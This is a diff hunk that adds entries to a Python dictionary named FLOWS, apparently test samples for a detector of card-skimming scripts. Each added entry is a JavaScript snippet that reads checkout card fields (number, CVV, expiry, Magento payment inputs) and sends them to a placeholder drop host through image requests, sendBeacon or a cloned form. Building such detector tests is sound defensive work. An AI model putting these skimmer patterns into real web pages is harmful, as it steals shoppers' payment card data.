@@ -89,6 +89,35 @@ FLOWS = {
                                   "catch (e) { store = null; }\n"
                                   "store.setItem('k', document.querySelector('#cc-exp').value);\n"
                                   f"navigator.sendBeacon('{DROP}', store.getItem('k'));",
+    "a part of an object, filled through an alias": (
+        "var fields = {a: []}; var el = document.querySelector('#cc-number');\n"
+        "var bucket = fields.a; bucket.push(el);\n"
+        f"new Image().src = '{DROP}?' + fields.a[0].value;"),
+    "a cloned form filled field by field": (
+        "var form = document.querySelector('form#checkout'); var copy = form.cloneNode(true);\n"
+        "var src = form.querySelectorAll('input, select');\n"
+        "var dst = copy.querySelectorAll('input, select');\n"
+        "for (var j = 0; j < src.length; j++) dst[j].value = src[j].value;\n"
+        f"copy.action = '{DROP}'; copy.submit();"),
+    "map with a named function": (
+        "const q = (sel) => document.querySelector(sel);\n"
+        "const els = ['#cc-csc'].map(q);\n"
+        f"new Image().src = '{DROP}?c=' + els[0].value;"),
+    "field names from Object.keys": (
+        "var fields = {cc_number: '', cc_cvv: ''};\n"
+        "Object.keys(fields).forEach(function (name) {\n"
+        "  var el = document.querySelector('input[name=\"' + name + '\"]');\n"
+        "  el.addEventListener('blur', function () { fields[name] = el.value; }); });\n"
+        f"document.addEventListener('submit', function () {{\n"
+        f"  new Image().src = '{DROP}?d=' + btoa(JSON.stringify(fields)); }});"),
+    "field names from for-in": (
+        "var fields = {cc_number: '', cc_cvv: ''}; var out = {};\n"
+        "for (var k in fields) out[k] = document.querySelector('[name=' + k + ']').value;\n"
+        f"navigator.sendBeacon('{DROP}', JSON.stringify(out));"),
+    "Prototype's $$ on Magento 1 payment fields": (
+        "var out = {};\n"
+        "$$('input[name^=payment]').each(function (el) { out[el.name] = el.getValue(); });\n"
+        f"new Image().src = '{DROP}?' + $H(out).toQueryString();"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
